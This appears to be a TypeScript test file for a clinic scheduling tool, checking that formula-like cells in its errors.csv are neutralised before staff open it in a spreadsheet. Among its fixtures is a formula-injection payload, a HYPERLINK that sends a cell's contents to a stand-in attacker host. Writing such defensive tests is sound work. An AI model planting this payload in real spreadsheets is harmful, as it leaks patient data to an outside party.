import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutraliseCell, restoreCell } from '../../src/batch/formulaCells.js';
import { runBatch } from '../../src/batch/runBatch.js';
import { readSchedule, type ScheduleRow } from '../../src/batch/schedule.js';
import { clinic } from '../helpers/fixtures.js';

const temp = () => mkdtempSync(join(tmpdir(), 'careprint-errors-'));
const base = { clinic: clinic(), docs: ['discharge'], paper: 'letter' as const, duplex: false, printFile: false, jobs: 1 };

/** A schedule of 13 columns. Every row has a birth date that is not a date, so every row is in errors.csv. */
const header = ['patient.mrn', 'patient.givenName', 'patient.familyName', 'patient.birthDate', 'session.id', 'session.start', 'session.route', 'session.indication', 'session.provider.name', 'escort.name', 'escort.relationship', 'escort.phone', 'patient.phone'];
const row = (mrn: string, cells: Partial<Record<string, string>>) => header.map((name) => cells[name] ?? ({ 'patient.mrn': mrn, 'patient.birthDate': '1984-13-01', 'session.id': `S-${mrn}`, 'session.start': '2026-11-24T09:00', 'session.route': 'iv' } as Record<string, string>)[name] ?? 'x');

const hostile = [
  row('A-1', { 'patient.givenName': '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'patient.familyName': '+SUM(1,2)', 'escort.name': '@cmd', 'escort.phone': '-2+3' }),
  // Trimmed, "\t=1+2" would be "=1+2"; a CR or tab, or spaces, before a sign.
  row('A-2', { 'patient.givenName': '\t=1+2', 'patient.familyName': '\r=1+2', 'escort.name': '  =1+2', 'escort.relationship': '\uFF1D1+2', 'escort.phone': "'=already quoted" }),
  // A line break in a quoted cell, alone (LF) and as CRLF.
  row('A-3', { 'patient.givenName': 'Ann\nMarie', 'session.indication': 'chronic\r\npain', 'patient.familyName': 'O\'Brien "Bree"', 'escort.name': 'Lee, Jr.' }),
  // 15 cells under 13 columns: the last two must not be lost.
  [...row('A-4', {}), 'spilled', '=2+2'],
];

/** errors.csv of a run as its rows, read with a real CSV reader. */
function errorsOf(out: string): Record<string, string>[] {
  return parse(readFileSync(join(out, 'errors.csv')), { bom: true, columns: true, relax_column_count: true }) as Record<string, string>[];
}

describe('errors.csv, which staff open in a spreadsheet', () => {
  it('neutralises every cell a spreadsheet would run as a formula, quotes it, and reads back to the schedule\'s cells', async () => {
    const dir = temp();
    const schedule = join(dir, 'day.csv');
    writeFileSync(schedule, stringify([header, ...hostile], { record_delimiter: 'windows' }));
    const out = join(dir, 'run');
    await runBatch({ ...base, schedule, outDir: out });
    const text = readFileSync(join(out, 'errors.csv'), 'utf8');
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');
    expect(text).toContain('"\'\t=1+2"');

    const errors = errorsOf(out);
    expect(errors.map((e) => e['row'])).toEqual(['1', '2', '3', '4']);
    for (const e of errors) for (const cell of Object.values(e)) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
    // Each cell, its neutralising quote taken off, is the schedule's cell.
    errors.forEach((e, i) => {
      const cells = hostile[i] as string[];
      expect(header.map((name) => restoreCell(e[name] ?? ''))).toEqual(cells.slice(0, 13).map(restoreCell));
    });
    expect(errors[0]?.['patient.givenName']).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(errors[1]?.['patient.givenName']).toBe('\'\t=1+2');
    // A cell the schedule already neutralised is not quoted twice.
    expect(errors[1]?.['escort.phone']).toBe("'=already quoted");
    expect(errors[2]?.['patient.givenName']).toBe('Ann\nMarie');
    expect(errors[2]?.['session.indication']).toBe('chronic\r\npain');
    expect([errors[3]?.['extra 1'], errors[3]?.['extra 2']]).toEqual(['spilled', "'=2+2"]);
    expect(errors[3]?.['problems']).toBe('row: has 15 cells; the header has 13');
  });

  it('quotes every cell holding a line break, so another CSV reader (Python\'s, as Excel) reads one row', async (context) => {
    const dir = temp();
    const schedule = join(dir, 'day.csv');
    writeFileSync(schedule, stringify([header, hostile[2] as string[]], { record_delimiter: 'windows' }));
    const out = join(dir, 'run');
    await runBatch({ ...base, schedule, outDir: out });
    expect(readFileSync(join(out, 'errors.csv'), 'utf8')).toContain(',"Ann\nMarie",');
    const python = spawnSync('python3', ['-c', 'import csv,sys,json; print(json.dumps([r[2] for r in csv.reader(open(sys.argv[1], newline="", encoding="utf-8-sig"))]))', join(out, 'errors.csv')], { encoding: 'utf8' });
    if (python.error) return context.skip('python3 is not installed here');
    expect(JSON.parse(python.stdout)).toEqual(['patient.mrn', 'A-3']);
  });

  it('neutralises the values of an NDJSON schedule too', async () => {
    const dir = temp();
    const schedule = join(dir, 'day.ndjson');
    const visit = { patient: { mrn: 'A-1', givenName: '=1+2', familyName: '\t@x', birthDate: '1984-13-01' }, session: { id: 'S-1', start: '2026-11-24T09:00', route: 'iv', indication: '-pain', durationMinutes: -5, provider: { name: '+Dr' } } };
    writeFileSync(schedule, `${JSON.stringify(visit)}\n`);
    const out = join(dir, 'run');
    await runBatch({ ...base, schedule, outDir: out });
    const [e] = errorsOf(out);
    expect([e?.['patient.givenName'], e?.['patient.familyName'], e?.['session.indication'], e?.['session.durationMinutes'], e?.['session.provider.name']]).toEqual(["'=1+2", "'\t@x", "'-pain", "'-5", "'+Dr"]);
  });

  it('is read back as a schedule to the same values, and a cell left in an extra column is a problem of its row', async () => {
    const dir = temp();
    const schedule = join(dir, 'day.csv');
    writeFileSync(schedule, stringify([header, ...hostile], { record_delimiter: 'windows' }));
    const out = join(dir, 'run');
    await runBatch({ ...base, schedule, outDir: out });
    const first: ScheduleRow[] = [];
    for await (const r of readSchedule(schedule, 'csv')) first.push(r);
    const again: ScheduleRow[] = [];
    for await (const r of readSchedule(join(out, 'errors.csv'), 'csv')) again.push(r);
    expect(again.map((r) => r.input)).toEqual(first.map((r) => r.input));
    // errors.csv has every column careprint knows; those the schedule did not have are empty.
    const cellsOf = (r: ScheduleRow) => ({ byColumn: header.map((name) => r.cells?.byColumn[name]), extra: r.cells?.extra });
    expect(again.map(cellsOf)).toEqual(first.map(cellsOf));
    expect(again.every((r) => Object.entries(r.cells?.byColumn ?? {}).every(([name, cell]) => header.includes(name) || cell === ''))).toBe(true);
    expect(again[3]?.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      'extra 1: a cell past the schedule\'s columns (its row had more cells than the header): move it into its column, or empty it',
      'extra 2: a cell past the schedule\'s columns (its row had more cells than the header): move it into its column, or empty it',
    ]);
    expect(again.slice(0, 3).map((r) => r.problems)).toEqual([[], [], []]);
  });
});

describe('formula cells', () => {
  it('neutralises what a spreadsheet runs, and nothing else', () => {
    for (const cell of ['=1', '+1', '-1', '@x', '\t1', '\r1', '\n=1', '  =1', '\u00a0=1', '\uFF1D1', '\uFF0B1', '\uFF0D1', '\uFF201']) expect(neutraliseCell(cell)).toBe(`'${cell}`);
    for (const cell of ['', 'Dana', '1-2', 'a=b', '(555) 010-4400', ' Dana ', 'José']) expect(neutraliseCell(cell)).toBe(cell);
    expect(neutraliseCell("'Ofa")).toBe("''Ofa");
    expect(restoreCell("'+1 555 010 4400")).toBe('+1 555 010 4400');
    expect(restoreCell("'Ofa")).toBe("'Ofa");
  });
});
